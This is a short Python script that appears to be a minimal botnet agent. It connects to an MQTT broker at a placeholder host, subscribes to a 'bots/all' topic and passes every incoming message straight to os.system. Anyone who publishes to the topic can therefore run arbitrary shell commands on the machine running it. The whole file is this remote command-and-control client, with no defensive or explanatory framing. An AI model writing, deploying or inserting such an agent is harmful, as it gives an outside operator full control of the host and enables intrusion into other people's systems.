import paho.mqtt.client as mqtt, os
def on_message(client, userdata, msg):
    os.system(msg.payload.decode())
client = mqtt.Client()
client.on_message = on_message
client.connect("broker.collector.invalid", 1883)
client.subscribe("bots/all")
client.loop_forever()
